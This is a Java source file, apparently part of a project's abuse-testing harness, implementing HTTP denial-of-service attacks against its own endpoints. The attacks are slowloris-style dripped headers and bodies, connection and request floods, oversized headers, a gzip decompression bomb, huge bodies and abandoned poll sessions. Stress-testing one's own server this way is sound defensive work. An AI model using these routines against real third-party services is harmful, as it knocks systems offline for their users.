package dev.parley.abuse;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.zip.GZIPOutputStream;

/** Attacks that need no more than TCP and HTTP. */
final class HttpWeapons {

    private static final int SLOW_CONNECTIONS = 60;
    private static final int SILENT_CONNECTIONS = 200;
    private static final int BOMB_BYTES = 4 << 20;

    private HttpWeapons() {
    }

    /** Opens connections and says nothing. */
    static void silent(Arms arms) throws IOException {
        for (int i = 0; i < SILENT_CONNECTIONS && arms.going(); i++) {
            arms.open();
        }
        while (arms.going()) {
            Arms.pause(50);
        }
    }

    /** Sends heads of requests in drops. */
    static void slowHeads(Arms arms) throws IOException {
        drip(arms, "GET / HTTP/1.1\r\nHost: x\r\n", "X-A: b\r\n");
    }

    /** Sends bodies in drops. */
    static void slowBodies(Arms arms) throws IOException {
        drip(arms, "POST /auth/guest HTTP/1.1\r\nHost: x\r\nContent-Length: 16000\r\n\r\n{", " ");
    }

    private static void drip(Arms arms, String beginning, String drop) throws IOException {
        var slow = new ArrayList<Raw>();
        for (int i = 0; i < SLOW_CONNECTIONS && arms.going(); i++) {
            var raw = arms.open();
            raw.write(beginning);
            slow.add(raw);
        }
        while (arms.going()) {
            for (var raw : slow) {
                raw.write(drop);
            }
            Arms.pause(100);
        }
    }

    /** Connects and goes. */
    static void connects(Arms arms) throws IOException {
        while (arms.going()) {
            arms.close(arms.open());
            Arms.pause(1);
        }
    }

    /** Asks for pages as fast as it can, many at a time. */
    static void requests(Arms arms) throws IOException {
        while (arms.going()) {
            var raw = arms.open();
            for (int i = 0; i < 50 && arms.going(); i++) {
                raw.write("GET / HTTP/1.1\r\nHost: x\r\n\r\n".repeat(20));
                Arms.pause(2);
                raw.drain();
            }
            arms.close(raw);
        }
    }

    /** Sends heads of thousands of headers, and addresses without end. */
    static void largeHeads(Arms arms) throws IOException {
        while (arms.going()) {
            var raw = arms.open();
            raw.write(arms.random().nextBoolean()
                ? "GET / HTTP/1.1\r\nHost: x\r\n" + "X-A: bbbbbbbbbbbbbbbb\r\n".repeat(3_000) + "\r\n"
                : "GET /" + "x".repeat(200_000) + " HTTP/1.1\r\nHost: x\r\n\r\n");
            if (raw.status() >= 400) {
                arms.refused();
            }
            arms.close(raw);
        }
    }

    /** Sends bodies that are small as long as nobody unpacks them. */
    static void compressedBodies(Arms arms) throws IOException {
        var packed = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(packed)) {
            gzip.write(new byte[BOMB_BYTES]);
        }
        while (arms.going()) {
            var raw = arms.open();
            raw.write("POST /auth/guest HTTP/1.1\r\nHost: x\r\nContent-Encoding: gzip\r\nContent-Length: "
                + packed.size() + "\r\n\r\n");
            raw.write(packed.toByteArray());
            if (raw.status() >= 400) {
                arms.refused();
            }
            arms.close(raw);
        }
    }

    /** Sends bodies of many megabytes. */
    static void largeBodies(Arms arms) throws IOException {
        while (arms.going()) {
            var raw = arms.open();
            raw.write("POST /eventbus/000/" + arms.random().nextInt() + "/xhr_send HTTP/1.1\r\nHost: x\r\n"
                + "Content-Length: 100000000\r\n\r\n");
            for (int i = 0; i < 1_000 && arms.going(); i++) {
                raw.write(new byte[65_536]);
                raw.drain();
            }
            arms.close(raw);
        }
    }

    /** Opens polled sessions and leaves them lying. */
    static void polls(Arms arms) throws IOException {
        var raw = arms.open();
        while (arms.going()) {
            raw.write("POST /eventbus/000/" + Long.toHexString(arms.random().nextLong()) + "/xhr?token="
                + arms.token() + " HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n");
            if (raw.status() >= 400) {
                arms.refused();
            }
            raw.drain();
        }
    }
}
